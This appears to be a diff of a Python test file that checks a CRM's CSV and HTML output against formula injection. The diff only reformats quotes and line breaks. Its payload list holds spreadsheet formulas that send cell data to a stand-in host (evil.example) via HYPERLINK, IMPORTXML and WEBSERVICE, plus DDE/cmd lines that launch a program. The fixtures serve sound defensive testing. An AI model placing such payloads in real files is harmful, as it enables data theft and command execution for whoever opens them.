@@ -15,9 +15,9 @@ from pathlib import Path
 import pytest
 from hypothesis import HealthCheck, given, seed, settings
 from hypothesis import strategies as st
-
 from tests.torture.conftest import SEED, count
 from tests.torture.corpus import CASES, Forge, again, environment, furnish, plant
+
 from tinycrm.domain.cells_safe import mark, unmark
 from tinycrm.formats.csvfile import csv_line
 
@@ -32,11 +32,11 @@ FORMULAS: tuple[str, ...] = (
     "+1+1",
     "-1+1",
     "@SUM(1+1)",
-    "=HYPERLINK(\"http://evil.example?x=\"&A1;\"click\")",
+    '=HYPERLINK("http://evil.example?x="&A1;"click")',
     "=cmd|'/c calc'!A1",
-    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
-    "=WEBSERVICE(\"http://evil.example\")",
-    "=DDE(\"cmd\";\"/c calc\";\"x\")",
+    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
+    '=WEBSERVICE("http://evil.example")',
+    '=DDE("cmd";"/c calc";"x")',
     "-2+3+cmd|' /C calc'!A0",
     "+cmd|' /C calc'!A0",
     "@=1+1",
@@ -341,7 +341,17 @@ def test_html_runs_nothing_and_fetches_nothing(
             assert {tag for tag, _ in page.elements} <= allowed, (case, text)
             for tag, attributes in page.elements:
                 for name, value in attributes.items():
-                    assert name in ("lang", "dir", "charset", "name", "content", "http-equiv", "class", "scope", "colspan"), (tag, name)
+                    assert name in (
+                        "lang",
+                        "dir",
+                        "charset",
+                        "name",
+                        "content",
+                        "http-equiv",
+                        "class",
+                        "scope",
+                        "colspan",
+                    ), (tag, name)
                     assert "evil" not in (value or "") and "alert" not in (value or ""), (case, tag, name, value)
             assert "evil" not in page.styles and "url(" not in page.styles and "@import" not in page.styles
     assert pages > 20 * len(chosen)
